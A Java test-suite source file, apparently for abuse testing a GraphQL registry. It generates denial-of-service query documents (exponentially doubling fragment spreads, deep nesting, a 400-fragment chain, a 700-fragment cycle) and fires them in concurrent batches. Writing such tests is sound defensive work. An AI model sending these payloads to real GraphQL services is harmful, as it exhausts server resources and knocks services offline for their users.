package org.jointdefence.registry.abuse;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Documents that are long after their fragments are expanded. */
final class FragmentAttacks {

    private static final int AT_A_TIME = 40;

    private FragmentAttacks() {}

    static Stream<Attack> all() {
        return Stream.of(
                same("a hundred operations of fragments that double", doublingOperations()),
                same("nested spreads of 14.7 kB", nestedSpreads()),
                same("fields in fragments that double in depth", doublingDepth()),
                same("120 operations with a chain of 400 fragments", operationsAndSpreads()),
                same("a circle of 700 fragments", circle()));
    }

    private static Attack same(String name, String document) {
        byte[] request = Requests.query(document);
        return Attack.of(name, attacker -> attacker.press(AT_A_TIME, 2 * AT_A_TIME, i -> request));
    }

    /** Fragments that each spread the next one twice, so that the last of n is spread 2^n times. */
    private static String doubling(int count, String type, String last) {
        return IntStream.range(0, count)
                        .mapToObj(i -> "fragment f%d on %s {...f%d ...f%d} ".formatted(i, type, i + 1, i + 1))
                        .collect(Collectors.joining())
                + "fragment f" + count + " on " + type + " { " + last + " }";
    }

    private static String doublingOperations() {
        return IntStream.range(0, 100)
                        .mapToObj(i -> "query q" + i + "{viewer{...f0}} ")
                        .collect(Collectors.joining())
                + doubling(16, "Viewer", "__typename");
    }

    private static String nestedSpreads() {
        return "{...f0} " + doubling(360, "Query", "viewer { __typename }");
    }

    private static String doublingDepth() {
        return "{ persons { nodes { id } } agreements { nodes { ...f0 } } } "
                + IntStream.range(0, 6)
                        .mapToObj(i -> ("fragment f%d on Agreement { parties(first: 1) { nodes { agreements(first: 1) {"
                                        + " nodes {...f%d} } } } x%d: parties(first: 1) { nodes { agreements(first: 1) {"
                                        + " nodes {...f%d} } } } } ")
                                .formatted(i, i + 1, i, i + 1))
                        .collect(Collectors.joining())
                + "fragment f6 on Agreement { id }";
    }

    private static String operationsAndSpreads() {
        return IntStream.range(0, 120).mapToObj(i -> "query q" + i + "{...f0} ").collect(Collectors.joining())
                + IntStream.range(0, 400)
                        .mapToObj(i -> "fragment f" + i + " on Query {...f" + (i + 1) + "} ")
                        .collect(Collectors.joining())
                + "fragment f400 on Query { __typename }";
    }

    private static String circle() {
        return "{...f0} "
                + IntStream.range(0, 700)
                        .mapToObj(i -> "fragment f" + i + " on Query {...f" + (i + 1) % 700 + "} ")
                        .collect(Collectors.joining());
    }
}
